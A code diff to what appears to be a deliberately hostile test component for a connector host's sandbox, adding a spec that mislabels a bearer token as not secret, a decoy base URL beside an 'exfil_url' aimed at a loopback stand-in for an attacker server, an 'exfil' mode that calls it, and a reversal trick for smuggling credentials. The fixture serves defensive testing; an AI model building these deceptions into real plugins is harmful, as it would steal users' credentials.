@@ -5,6 +5,12 @@
 //! emits malformed or oversized resources, floods the log, traps or overflows its stack, and one
 //! that says whatever text it is given (in its log, its resources, its errors, its panic).
 //!
+//! Its spec is hostile too: it declares its bearer credential `api_token` *not* secret (so a host
+//! that believed it would hand the token over), and names as its base-URL field `exfil_url`,
+//! whose default is its author's server, while offering `base_url` as a decoy. Its id and that
+//! default sit in the component's data at fixed markers, so that a test can patch a copy into an
+//! impostor reporting another id, or aim the default at a loopback server it controls.
+//!
 //! Only built for `wasm32-wasip2` (by `host/build.rs`); on other targets it is empty.
 #![cfg(target_arch = "wasm32")]
 
@@ -23,6 +29,30 @@ use bindings::exports::euno::connector::connector::Guest;
 
 struct TestGuest;
 
+/// The id `spec()` reports, after a marker and padded with NULs: a test overwrites the bytes after
+/// the marker in a copy of the component to make an impostor (one reporting `hex`, say).
+static ID: &[u8] = b"euno-test-guest-id:test-guest\0\0\0\0\0\0\0\0\0\0\0";
+
+/// The field `spec()` names as its bearer credential, marked and padded like [`ID`]: `api_token`,
+/// which the spec declares not secret; a test patches it to `password`, which the spec declares
+/// secret, to make a component that looks well-behaved about its credential.
+static BEARER: &[u8] = b"euno-test-guest-bearer:api_token\0\0\0\0\0\0\0\0\0\0\0\0";
+
+/// The default of `exfil_url`, the field the spec names as its base-URL field: "its author's
+/// server". A test overwrites the port in a copy of the component with its own loopback server's.
+const EXFIL_DEFAULT: &str = "http://127.0.0.1:65000/exfil";
+
+/// The text after the marker (up to its `:`) in `bytes`, up to the padding. Read through
+/// `black_box`, so that the compiler keeps the bytes in the data section instead of folding the
+/// text into the code.
+fn marked(bytes: &'static [u8]) -> String {
+    let bytes = std::hint::black_box(bytes);
+    let start = bytes.iter().position(|&b| b == b':').map_or(0, |at| at + 1);
+    let text = &bytes[start..];
+    let end = text.iter().position(|&b| b == 0).unwrap_or(text.len());
+    String::from_utf8_lossy(&text[..end]).into_owned()
+}
+
 fn field(name: &str, kind: FieldKind, secret: bool, default: Option<&str>) -> ConfigField {
     ConfigField {
         name: name.to_owned(),
@@ -32,6 +62,16 @@ fn field(name: &str, kind: FieldKind, secret: bool, default: Option<&str>) -> Co
         required: false,
         secret,
         default_value: default.map(str::to_owned),
+    }
+}
+
+/// A text setting as the guest uses it: reversed when `reverse = true`.
+fn unreversed(config: &[ConfigEntry], name: &str) -> String {
+    let value = setting(config, name).unwrap_or_default();
+    if setting(config, "reverse") == Some("true") {
+        value.chars().rev().collect()
+    } else {
+        value.to_owned()
     }
 }
 
@@ -64,32 +104,48 @@ fn fetch(url: &str) -> Result<String, ConnectorError> {
 impl Guest for TestGuest {
     fn spec() -> ConnectorSpec {
         ConnectorSpec {
-            id: "test-guest".to_owned(),
+            id: marked(ID),
             display_name: "Test Guest".to_owned(),
             version: env!("CARGO_PKG_VERSION").to_owned(),
             description: "Misbehaves on request, for tests.".to_owned(),
             fields: vec![
                 field("mode", FieldKind::Text, false, Some("ok")),
                 field("count", FieldKind::Integer, false, Some("3")),
+                // The decoy: the origin an operator would grant.
                 field(
                     "base_url",
                     FieldKind::Url,
                     false,
                     Some("http://127.0.0.1:9/"),
                 ),
+                // Its author's server, named below as the base-URL field.
+                field(
+                    "exfil_url",
+                    FieldKind::Url,
+                    false,
+                    Some(std::hint::black_box(EXFIL_DEFAULT)),
+                ),
                 // Text, not a URL: the egress tests hand it URLs the host would refuse as a
                 // setting (`user@host`), to show the request itself is refused.
                 field("target_url", FieldKind::Text, false, None),
-                field("token", FieldKind::Text, true, None),
+                // The bearer credential, declared not secret: a host that believed the spec would
+                // pass it in the config.
+                field("api_token", FieldKind::Text, false, None),
+                // A field the spec does mark secret.
+                field("password", FieldKind::Text, true, None),
                 field("sleep_ms", FieldKind::Integer, false, Some("1000")),
                 field("batch", FieldKind::Integer, false, Some("100")),
                 // What the `speak` modes say, after `pad` dots.
                 field("text", FieldKind::Text, false, None),
                 field("pad", FieldKind::Integer, false, Some("0")),
+                // Reverses `text` and `target_url` before use: how a test hands the guest a
+                // credential the host will not let a setting carry, as if the guest had got
+                // hold of it some other way.
+                field("reverse", FieldKind::Boolean, false, Some("false")),
             ],
             resource_types: vec!["test_item".to_owned()],
-            base_url_field: Some("base_url".to_owned()),
-            bearer_credential_field: Some("token".to_owned()),
+            base_url_field: Some("exfil_url".to_owned()),
+            bearer_credential_field: Some(marked(BEARER)),
         }
     }
 
@@ -114,23 +170,42 @@ impl Guest for TestGuest {
             "spin" => spin(),
             "alloc" => hoard(),
             "egress" => {
-                let target = setting(&config, "target_url").unwrap_or_default();
-                fetch(target).map(|_| DiscoverSummary {
+                let target = unreversed(&config, "target_url");
+                fetch(&target).map(|_| DiscoverSummary {
                     emitted: 0,
                     requests: 1,
                 })
             }
             "config" => {
-                // Echo every entry the host handed over, so a test can prove no secret is among them.
+                // Echo every entry the host handed over, in the log and in the inventory, so a test
+                // can prove no secret is among them.
                 let listed: Vec<String> = config
                     .iter()
                     .map(|e| format!("{}={}", e.name, e.value))
                     .collect();
                 host::log(LogLevel::Info, &listed.join(" "));
-                Ok(DiscoverSummary {
-                    emitted: 0,
-                    requests: 0,
-                })
+                host::emit(&[Resource {
+                    uri: "test.config".to_owned(),
+                    resource_type: "test_item".to_owned(),
+                    name: "The config the guest received".to_owned(),
+                    parent_uri: None,
+                    native_id: None,
+                    properties: vec![Property {
+                        name: "entries".to_owned(),
+                        value: PropertyValue::TextList(listed),
+                    }],
+                }]);
+                Ok(summary(1, 0))
+            }
+            "exfil" => {
+                // The decoy first, as a well-behaved connector would, then its author's server.
+                let base = setting(&config, "base_url").unwrap_or_default();
+                let exfil = setting(&config, "exfil_url").unwrap_or_default();
+                let decoy = fetch(base);
+                host::log(LogLevel::Info, &format!("exfil decoy: {decoy:?}"));
+                let stolen = fetch(exfil);
+                host::log(LogLevel::Info, &format!("exfil author: {stolen:?}"));
+                stolen.map(|_| summary(0, 2))
             }
             "sleep" => {
                 // A slow connector: long enough for a test to swap components under it.
@@ -145,8 +220,8 @@ impl Guest for TestGuest {
             )),
             "panic" => panic!("the test guest was told to panic"),
             "fetch" => {
-                let target = setting(&config, "target_url").unwrap_or_default();
-                fetch_following(target).map(|_| summary(0, 2))
+                let target = unreversed(&config, "target_url");
+                fetch_following(&target).map(|_| summary(0, 2))
             }
             "snoop" => Ok(snoop(&config)),
             "echo" => echo(&config),
@@ -210,7 +285,7 @@ impl Guest for TestGuest {
             "speak" => {
                 let text = spoken(&config);
                 host::log(LogLevel::Warn, &text);
-                let said = setting(&config, "text").unwrap_or_default().to_owned();
+                let said = unreversed(&config, "text");
                 let mut resource = item("test.items.spoken\u{202e}txt", 0, &context);
                 resource.name = said.clone();
                 resource.native_id = Some(said.clone());
@@ -243,11 +318,7 @@ fn spoken(config: &[ConfigEntry]) -> String {
     let pad = setting(config, "pad")
         .and_then(|v| v.parse().ok())
         .unwrap_or(0);
-    format!(
-        "{}{}",
-        ".".repeat(pad),
-        setting(config, "text").unwrap_or_default()
-    )
+    format!("{}{}", ".".repeat(pad), unreversed(config, "text"))
 }
 
 fn summary(emitted: u64, requests: u32) -> DiscoverSummary {
@@ -341,10 +412,10 @@ fn snoop(config: &[ConfigEntry]) -> DiscoverSummary {
     note("tcp 127.0.0.1:80", result_line(connected));
     let secretish: Vec<String> = config
         .iter()
-        .filter(|e| e.name == "token")
+        .filter(|e| e.name == "api_token" || e.name == "password")
         .map(|e| e.value.clone())
         .collect();
-    note("config token", format!("{secretish:?}"));
+    note("config credentials", format!("{secretish:?}"));
     host::emit(&[Resource {
         uri: "test.loot".to_owned(),
         resource_type: "test_item".to_owned(),
